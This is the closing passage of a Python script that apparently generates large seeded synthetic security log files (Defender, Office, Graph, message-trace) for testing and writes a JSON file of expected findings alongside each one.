        w.add('"Received","SenderAddress","RecipientAddress","Subject","Status","ToIP","FromIP",'
              '"Size","MessageId","MessageTraceId"')
        ts = BASE_EPOCH + 13 * 86400  # a day above 12 early: the file shows its order
        while w.size() < size:
            for _ in range(256):
                w.add(self.background(ts))
                ts += self.rng.random() < 0.3
        return {}


KINDS = {"defender": lambda seed: Defender(seed), "office": lambda seed: Office(seed + 1),
         "graph": lambda seed: Graph(seed + 2), "msgtrace": lambda seed: MessageTrace(seed + 3)}


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--kind", choices=sorted(KINDS), required=True)
    ap.add_argument("--size", default="200M", help="target size, e.g. 50M, 1G")
    ap.add_argument("--seed", type=int, default=1114)
    ap.add_argument("--out", required=True)
    args = ap.parse_args()
    size = parse_size(args.size)
    gen = KINDS[args.kind](args.seed)
    w = Writer(args.out, size)
    expected = gen.run(w, size)
    w.close()
    exp = {"kind": args.kind, "bytes": w.total, "seed": args.seed,
           "findings": {str(k): v for k, v in sorted(expected.items())}}
    with open(args.out + ".expected.json", "w", encoding="utf-8") as fh:
        json.dump(exp, fh)
        fh.write("\n")
    json.dump(exp, sys.stdout)
    sys.stdout.write("\n")


if __name__ == "__main__":
    main()
